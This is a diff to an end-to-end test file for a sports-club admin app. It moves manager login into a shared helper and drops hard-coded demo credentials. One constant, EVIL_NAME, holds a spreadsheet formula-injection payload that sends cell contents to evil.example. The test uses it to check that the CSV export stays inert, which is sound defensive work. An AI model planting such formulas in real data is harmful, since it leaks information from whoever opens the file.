@@ -1,15 +1,13 @@
 /**
- * Club admin, members and exports (issue 6 items 7 and 9): the demo manager signs in with 2FA,
+ * Club admin, members and exports: the demo manager signs in with 2FA,
  * invites someone by email, the invitee creates their account through the emailed link and
  * appears in the member list; the members CSV export holds a `=HYPERLINK(…)` member as inert text.
  */
 import { readFile } from "node:fs/promises";
 import { expect, test, e2eDatabase } from "./fixtures";
-import { emailLink, PASSWORD, totp, uniqueEmail } from "./auth-helpers";
+import { emailLink, PASSWORD, signInStaff, uniqueEmail } from "./auth-helpers";
 import { expectNoSeriousA11yViolations } from "./booking-helpers";
 
-const MANAGER = { email: "manager@courtside.test", password: "demo-manager-court-2026" };
-const MANAGER_TOTP = "COURTSIDEDEMOMANAGERTOTPKEYAAAAA";
 const EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
 
 test("a manager invites a member who accepts by email, and exports the members as safe CSV", async ({
@@ -30,12 +28,7 @@ test("a manager invites a member who accepts by email, and exports the members a
   }
 
   // The demo manager signs in with a TOTP code and lands on the members screen.
-  await page.goto("/login?next=/c/demo/admin/members");
-  await page.getByLabel("Email address").fill(MANAGER.email);
-  await page.getByLabel("Password").fill(MANAGER.password);
-  await page.getByRole("button", { name: "Sign in" }).click();
-  await page.getByLabel("Code").fill(await totp(MANAGER_TOTP));
-  await page.getByRole("button", { name: "Verify" }).click();
+  await signInStaff(page, "manager", { next: "/c/demo/admin/members" });
   await expect(page).toHaveURL(/\/c\/demo\/admin\/members$/);
   await expect(page.getByRole("heading", { name: /^Members of / })).toBeVisible();
   await expect(page.getByRole("link", { name: "Members" })).toHaveAttribute("aria-current", "page");
@@ -117,12 +110,7 @@ test("a manager invites a member who accepts by email, and exports the members a
 
 test("statistics and the audit log show the club's numbers and events", async ({ page }) => {
   test.setTimeout(90_000);
-  await page.goto("/login?next=/c/demo/admin/audit");
-  await page.getByLabel("Email address").fill(MANAGER.email);
-  await page.getByLabel("Password").fill(MANAGER.password);
-  await page.getByRole("button", { name: "Sign in" }).click();
-  await page.getByLabel("Code").fill(await totp(MANAGER_TOTP));
-  await page.getByRole("button", { name: "Verify" }).click();
+  await signInStaff(page, "manager", { next: "/c/demo/admin/audit" });
   await expect(page).toHaveURL(/\/c\/demo\/admin\/audit$/);
   await expect(page.getByRole("heading", { name: "Audit log" })).toBeVisible();
   await page.getByLabel("Action").selectOption("admin.member.invited");
